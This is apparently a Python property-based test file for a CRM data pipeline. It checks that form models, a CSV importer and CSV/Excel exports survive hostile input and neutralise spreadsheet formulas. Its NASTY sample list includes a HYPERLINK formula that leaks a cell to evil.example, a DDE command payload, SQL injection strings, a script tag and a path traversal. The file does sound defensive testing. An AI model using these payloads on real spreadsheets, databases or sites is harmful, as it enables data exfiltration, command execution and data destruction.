"""Hostile input (hypothesis): long strings, control characters, formulas, SQL fragments, wrong
encodings. Every form model and the importer either give a clear error or keep the value verbatim,
exports neutralise formulas, and nothing crashes."""

from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError

from pipelines import errors, exports, follow_ups, models
from pipelines.config import local_tz
from pipelines.ingest.load import load_file
from pipelines.store import Store
from pipelines.validators import clean_text
from tests.conftest import Org

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(cell: str) -> bool:
    """Text Excel would run: a formula start, except a negative number (Excel reads -5 as -5)."""
    return cell.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
NASTY = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
         "'; DROP TABLE follow_ups; --", "Robert'); DELETE FROM customers; --", "1 OR 1=1", "$id", "?", "%s {0} {field}",
         "<script>alert(1)</script>", "../../etc/passwd", "\x00\x01\x07", "\t=1+1", "\r=1", "第一行\n第二行", "全角\u3000空格",
         "😀" * 20, "\ufeffBOM", "é" * 5000, "客户" * 3000, "", "   "]
hostile = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=60),
    st.text(min_size=200, max_size=600).map(lambda s: s * 8),  # long: past every length limit
    st.binary(max_size=80).map(lambda b: b.decode("latin-1")),  # bytes read with the wrong encoding
    st.text(max_size=40).map(lambda s: s.encode("utf-8").decode("latin-1")),  # UTF-8 shown as Latin-1
    st.text(max_size=40).map(lambda s: s.encode("gb18030").decode("utf-8", errors="replace")),  # GBK as UTF-8
)

NOW = datetime.now(local_tz()) - timedelta(hours=2)
# A valid value for each form model; each test replaces one field with a hostile value.
BASELINES: dict[str, dict] = {
    "TeamIn": {"name": "一组"},
    "UserIn": {"username": "zhang_san", "display_name": "张三", "role": "rep"},
    "CustomerIn": {"name": "杭州青禾科技有限公司", "owner_id": 1},
    "ContactIn": {"customer_id": 1, "name": "张伟"},
    "NeedIn": {"customer_id": 1, "description": "需要报价", "raised_on": date(2026, 3, 1)},
    "ContractIn": {"customer_id": 1, "rep_id": 1, "signed_on": date(2026, 3, 1), "amount": Decimal(1000)},
    "FollowUpIn": {"customer_id": 1, "rep_id": 1, "occurred_at": NOW, "channel": "phone", "summary": "电话沟通"},
    "StageChangeIn": {"customer_id": 1, "to_stage": "proposal", "changed_at": NOW},
    "OwnershipChangeIn": {"customer_id": 1, "to_owner_id": 2, "changed_at": NOW},
    "RiskIn": {"customer_id": 1, "level": "red", "rule": "manual"},
    "FeedbackIn": {"customer_id": 1, "kind": "complaint", "description": "交付延迟"},
    "SurveyIn": {"customer_id": 1, "score": 4, "surveyed_on": date(2026, 3, 1)},
    "TargetIn": {"rep_id": 1, "month": date(2026, 3, 1)},
}
FORM_MODELS = {name: cls for name, cls in vars(models).items()
               if inspect.isclass(cls) and issubclass(cls, BaseModel) and name.endswith("In")}


def test_every_form_model_has_a_baseline():
    assert set(FORM_MODELS) <= set(BASELINES), "add a valid baseline for the new form model"


def _clear(exc: ValidationError, values: dict) -> None:
    """The error names the field and says why, in both languages, with no code or template left."""
    quoted = [str(v)[:40] for v in values.values() if isinstance(v, str) and v]
    for lang in ("zh_CN", "en"):
        explained = errors.explain(exc, lang)
        assert explained, exc
        for message in explained.values():
            text = message
            for q in quoted:  # the message may quote the input: only our own template must be filled
                text = text.replace(q, "")
            assert text and "{" not in text and "Traceback" not in text


def _check_export(value: str) -> None:
    frame = pl.DataFrame({"value": [value]})
    rows = list(csv.reader(io.StringIO(exports.to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    got = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert got == ("'" + value if runs_as_formula(value) else value)
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes({"s": frame})))
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    # in Excel the text stays as written, held as text by the cell's quote prefix (no ' in the value)
    cell = book.active.cell(2, 1)
    assert not (cell.value or "").startswith("'") or value.startswith("'")
    assert cell.quotePrefix or not value


def _form(model: str) -> st.SearchStrategy[dict]:
    """The model's valid baseline with some fields (at least one) replaced by hostile values."""
    fields = list(FORM_MODELS[model].model_fields)
    return st.sets(st.sampled_from(fields), min_size=1, max_size=3).flatmap(
        lambda chosen: st.fixed_dictionaries(dict.fromkeys(chosen, hostile)).map(
            lambda bad: {**BASELINES[model], **bad}))


@pytest.mark.parametrize("model", sorted(BASELINES))
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_form_models_take_hostile_values(model, data):
    values = data.draw(_form(model))
    try:
        obj = FORM_MODELS[model](**values)
    except ValidationError as exc:
        _clear(exc, values)
        return
    for field, value in values.items():
        stored = getattr(obj, field)
        if not isinstance(value, str) or not isinstance(stored, str):
            continue
        cleaned = clean_text(value)
        # free text is kept as typed (trimmed); normalised fields hold their canonical form
        assert stored == cleaned or field in ("phone", "email", "uscc", "province", "username"), (field, value)
        _check_export(stored)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    s = Store(str(tmp_path_factory.mktemp("hostile") / "hostile.duckdb"))
    org = Org(s)
    from pipelines import customers
    from pipelines.models import CustomerIn

    cid = customers.create(s, org["admin"], CustomerIn(name="收件客户", owner_id=org["rep1"].id))
    yield s, org, cid
    s.close()


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=hostile)
def test_saved_values_come_back_verbatim_and_export_safely(hostile_store, value):
    s, org, cid = hostile_store
    try:
        follow_up = models.FollowUpIn(customer_id=cid, rep_id=org["rep1"].id, occurred_at=NOW, channel="visit",
                                      summary=value, next_action=value[:4000] or None)
    except ValidationError as exc:
        _clear(exc, {"summary": value})
        return
    fid = follow_ups.add(s, org["rep1"], follow_up)
    row = s.query("SELECT summary, next_action FROM follow_ups WHERE id = $i", {"i": fid}).row(0)
    assert row == (follow_up.summary, follow_up.next_action)  # SQL fragments are data, never code
    assert s.scalar("SELECT count(*) FROM customers") == 1
    _check_export(row[0])


def _write(path, text: str, encoding: str) -> None:
    path.write_bytes(text.encode(encoding, errors="replace"))


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(hostile, min_size=1, max_size=4), summaries=st.lists(hostile, min_size=1, max_size=4),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "latin-1", "utf-16"]))
def test_importer_takes_hostile_files(hostile_store, tmp_path_factory, names, summaries, encoding):
    s, org, _ = hostile_store
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["客户名称", "跟进日期", "跟进方式", "跟进人", "跟进内容"])
    for i, (name, summary) in enumerate(zip(names, summaries * len(names))):
        writer.writerow([name, f"2026-03-{1 + i:02d} 10:00", "电话", "rep1", summary])
    path = tmp_path_factory.mktemp("imp") / "hostile.csv"
    _write(path, buf.getvalue(), encoding)
    result = load_file(s, org["admin"], path)  # never raises for a bad file
    if result.error:
        assert "/" in result.error  # a message in both languages
        return
    assert result.rows_read == result.rows_loaded + result.rows_rejected + result.rows_duplicate
    if result.rows_rejected:
        with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if runs_as_formula(c)], "formulas in the rejects file"


def test_importer_keeps_a_formula_verbatim_and_neutralises_it_in_rejects(hostile_store, tmp_path):
    s, org, _ = hostile_store
    formula = '=HYPERLINK("http://evil.example","点我")'
    path = tmp_path / "formulas.csv"
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerows([["客户名称", "跟进日期", "跟进方式", "跟进人", "跟进内容"],
                      ["公式客户", "2026-03-05 10:00", "电话", "rep1", formula],
                      ["坏行客户", formula, "电话", "rep1", "日期一栏是公式"]])
    _write(path, buf.getvalue(), "gb18030")  # as Excel on Chinese Windows saves it
    result = load_file(s, org["admin"], path)
    assert (result.rows_loaded, result.rows_rejected) == (1, 1), result
    assert s.scalar("SELECT count(*) FROM follow_ups f JOIN customers c ON c.id = f.customer_id"
                    " WHERE c.name = '公式客户' AND f.summary = $f", {"f": formula}) == 1  # verbatim
    with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + formula in cells and formula not in cells
